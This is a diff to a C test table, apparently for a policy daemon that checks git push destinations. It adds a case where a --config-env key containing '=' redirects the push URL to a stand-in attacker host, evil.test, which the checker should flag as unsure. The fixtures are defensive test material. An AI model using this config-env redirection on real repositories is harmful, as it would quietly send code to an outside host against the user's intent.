@@ -615,6 +615,14 @@ static const struct row config_rows[] = {
 		 "origin", "main"},
 	.env = {"EVIL=https://evil.test/z"}, .files = {ORIGIN},
 	.want = {"push|origin|https://evil.test/z|main|"}, .nev = 1, NOCHECK),
+    /* git splits --config-env at the last '=': the key is
+     * remote.a=b.pushurl (remote "a=b"); policyd does not rebuild it */
+    ROW(.name = "--config-env with '=' in the key is unsure",
+	.argv = {"git", "--config-env=remote.a=b.pushurl=EVIL", "push", "a=b",
+		 "main"},
+	.env = {"EVIL=https://evil.test/z"},
+	.files = {"repo/.git/config=[remote \"a=b\"]\n\turl = /srv/l.git\n"},
+	.helper = -1, .unsure = 1),
     ROW(.name = "~/.gitconfig include.path",
 	.argv = {"git", "push", "origin", "main"},
 	.files = {ORIGIN, "home/.gitconfig=[include]\n\tpath = inc/more\n",
